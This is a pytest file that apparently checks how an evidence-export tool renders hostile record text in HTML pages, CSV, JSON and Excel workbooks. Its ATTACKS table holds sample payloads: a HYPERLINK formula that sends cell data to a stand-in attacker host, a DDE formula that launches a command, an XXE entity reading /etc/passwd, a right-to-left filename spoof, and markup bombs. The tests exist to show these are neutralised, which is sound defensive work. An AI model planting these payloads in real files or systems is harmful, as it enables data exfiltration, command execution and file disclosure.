"""Evidence that was made to stop, mislead or break: the table of attacks, over page, workbook, CSV and room."""

import csv
import io
import json
import re
from dataclasses import replace
from xml.etree import ElementTree

import openpyxl
import pytest
from pydantic import ValidationError

from muniment.controls.model import Register, Subject
from muniment.evidence import canonical, failed
from muniment.exports.cells import as_csv, as_json, is_formula
from muniment.exports.fonts import glyphs
from muniment.exports.html import MOST_ROWS, render
from muniment.exports.room import room
from muniment.exports.tables import tables
from muniment.exports.words import Words
from muniment.exports.workbook import workbook

LONGEST_CELL = 32_767  # of a workbook (Excel's limit)
BOMB = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAALuAAAC7gCAIAAAB"  # says that it is 12,000 × 12,000
ATTACKS = {
    "a cell over 65,534 columns": '</td><td colspan="65534">wide</td>',
    "400 nested blocks": "<div>" * 400 + "deep" + "</div>" * 400,
    "a picture that is a bomb": f'<img src="{BOMB}"/>',
    "a word of a megabyte": "w" * (1 << 20),
    "a field of ten megabytes": "a field of ten megabytes " * 420_000,
    "text that turns round": "invoice\u202egpj.exe\u2066\u200b",
    "a formula": '=HYPERLINK("http://attacker.test/"&A1)',
    "a command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "an entity": "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
}
NAMES = tuple(ATTACKS)
FIRST = "collect.example-phone.test:443"


@pytest.fixture(scope="module")
def attacked(sampled):
    """A pack in which each attack is the sentence of some record."""
    return sampled(
        lambda task, week: failed(ATTACKS[NAMES[week]] if task.subject == FIRST else "plain", "test.attack"),
        weeks=len(NAMES),
        framework="iso-iec-27018-2025",
        controls=1,
    )


@pytest.fixture(scope="module")
def pack(attacked):
    return attacked.pack()


@pytest.fixture(scope="module")
def evidence(pack):
    """The table that has every sentence."""
    return next(table for table in tables(pack) if table.name == "evidence")


def depth(element: ElementTree.Element) -> int:
    return 1 + max(map(depth, element), default=0)


def test_on_the_page_every_attack_is_text_of_bounded_length_and_depth(pack) -> None:
    page = render(pack, glyphs()).xhtml
    root = ElementTree.fromstring(page)
    assert depth(root) < 20
    assert not [each for each in root.iter() if each.get("colspan") or (each.tag in ("img", "div") and each.get("src"))]
    assert len(page) < 1_000_000
    assert max(len(text) for text in root.itertext()) < 5_000
    assert "\u202e" not in page
    assert "⟨U+202E⟩" in page


@pytest.mark.parametrize("name", NAMES)
def test_in_a_csv_file_no_cell_is_a_formula_or_longer_than_a_spreadsheet_takes(evidence, name: str) -> None:
    rows = csv.DictReader(io.StringIO(as_csv(evidence).decode("utf-8-sig"), newline=""))
    cells = [row["message"] for row in rows if row["subject"] == FIRST]
    of_attack = cells[NAMES.index(name)]
    assert len(cells) == len(NAMES)
    assert len(of_attack) <= LONGEST_CELL
    assert not is_formula(of_attack)
    assert "\u202e" not in of_attack


def test_json_has_every_attack_whole(evidence) -> None:
    rows = json.loads(as_json(evidence))["rows"]
    assert {row["message"] for row in rows} == {*ATTACKS.values(), "plain"}


def test_in_the_workbook_every_attack_is_text_that_a_spreadsheet_takes(pack, evidence) -> None:
    book = openpyxl.load_workbook(io.BytesIO(workbook(pack, (evidence,), Words())))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert max(len(cell.value) for cell in cells) <= LONGEST_CELL
    assert all(cell.data_type == "s" for cell in cells)
    assert all(cell.quotePrefix for cell in cells if is_formula(cell.value))
    assert any(cell.value == ATTACKS["a formula"] for cell in cells)
    assert not [cell for cell in cells if cell.hyperlink]


def test_in_the_room_no_attack_is_markup(pack) -> None:
    page = room({each.name: each.data for each in pack.attachments}).decode()
    assert re.findall(r"colspan|<img|<!ENTITY|HYPERLINK", page) == []
    assert len(re.findall(r"<script", page)) == 2


def test_a_lone_surrogate_enters_neither_a_verdict_nor_a_file() -> None:
    with pytest.raises(ValidationError):
        failed("lone \ud800 surrogate", "test.attack")
    with pytest.raises(ValueError, match="lone surrogate"):
        canonical({"message": "lone \ud800 surrogate"})


def test_a_register_of_20_000_entries_is_cut_on_the_page_and_whole_in_the_manifest(small) -> None:
    entries = tuple(
        Subject(id=f"host-{place}.example.test:443", values={}, out_of_scope="switched off" if place % 2 else None)
        for place in range(20_000)
    )
    register = Register(name="endpoints", path="registers/endpoints.yaml", entries=entries)
    wide = replace(small, workspace=replace(small.workspace, registers={"endpoints": register}))
    made = wide.pack()
    page = render(made, glyphs()).xhtml
    scope = page[page.index('id="scope"') : page.index('id="applicability"')]
    assert scope.count("<tr>") < MOST_ROWS + 30
    assert "500 of 20,000 shown, all in the attachment manifest.json." in scope
    assert "500 of 10,000 shown, all in the attachment manifest.json." in page
    assert made.attachments[0].data.count(b'"id":"host-') == 20_000
